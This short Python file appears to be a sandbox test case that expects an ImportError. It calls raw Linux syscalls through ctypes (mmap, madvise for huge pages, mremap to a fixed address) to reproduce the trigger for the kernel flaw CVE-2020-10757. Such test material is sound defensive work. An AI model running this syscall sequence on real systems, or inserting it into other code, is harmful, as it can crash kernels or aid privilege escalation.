# expect: error ImportError
# idea: the door is a huge mapping that is moved to where its kind is not expected
# full: done
# source: CVE-2020-10757
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    return libc.syscall(ctypes.c_long(number), *wide), ctypes.get_errno()
page = call(9, 0, 1 << 22, 3, 0x22, -1, 0)[0]
print("advice", call(28, page, 1 << 22, 14))
print("moved at will", call(25, page, 1 << 22, 1 << 22, 3, 0x7E0000001000))
print("moved and kept", call(25, page, 1 << 22, 1 << 22, 5))
